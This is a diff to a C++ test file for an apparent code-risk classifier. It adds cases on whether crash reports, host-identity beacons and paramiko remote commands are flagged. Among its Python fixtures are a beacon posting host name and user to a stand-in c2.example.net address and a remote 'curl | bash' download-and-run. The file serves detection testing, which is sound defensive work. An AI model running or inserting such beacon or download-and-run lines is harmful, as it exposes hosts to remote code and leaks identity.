@@ -322,5 +322,48 @@ TEST(EleventhRoundClasses, SetuidBitsOredIntoAnUnknownMode) {
   for (const auto& c : cases) check(c);
 }
 
+// platform.platform() is the OS, kernel and C library versions, not who or
+// where the code runs: a crash report carrying it is ordinary (it was HIGH
+// as host identity sent out). The host name and the user still are identity.
+TEST(EleventhRoundClasses, PlatformVersionsAreNoIdentity) {
+  const Case cases[] = {
+      {"crash report with the traceback and platform.platform()", L,
+       "import traceback, platform, requests, sys\ndef report():\n"
+       "    requests.post('https://errors.example.com/api/1/store/', json={'trace': traceback.format_exc(),\n"
+       "                  'platform': platform.platform(), 'python': sys.version}, timeout=5)\n"
+       "try:\n    1/0\nexcept Exception:\n    report()\n",
+       nullptr},
+      {"host name and user to a fixed address", B,
+       "import socket, getpass, requests\nrequests.post('https://c2.example.net/checkin', json={'h': socket.gethostname(),\n"
+       "              'u': getpass.getuser()})\n",
+       "IDENTITY-BEACON"},
+      {"platform.uname() (with the node name) to a fixed address", H,
+       "import platform, requests\nrequests.post('https://stats.example.net/u', json={'uname': list(platform.uname())})\n",
+       "HOST-IDENTITY-SENT"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// paramiko's exec_command runs its command in the remote shell: judged as
+// the code's own, as `ssh HOST CMD` and Fabric's run already were (a remote
+// sudo was a process run).
+TEST(EleventhRoundClasses, ParamikoRemoteCommandsAreJudged) {
+  const Case cases[] = {
+      {"remote sudo through exec_command", H,
+       "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('web1', username='deploy')\n"
+       "c.exec_command('sudo systemctl restart nginx')\n",
+       "PRIVILEGE-ESCALATION"},
+      {"remote download-and-run through exec_command", B,
+       "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('web1')\n"
+       "c.exec_command('curl -s http://203.0.113.9/x.sh | bash')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a remote log tail", M,
+       "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('web1', username='deploy')\n"
+       "i, o, e = c.exec_command('tail -n 50 /var/log/app.log')\nprint(o.read().decode())\n",
+       "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
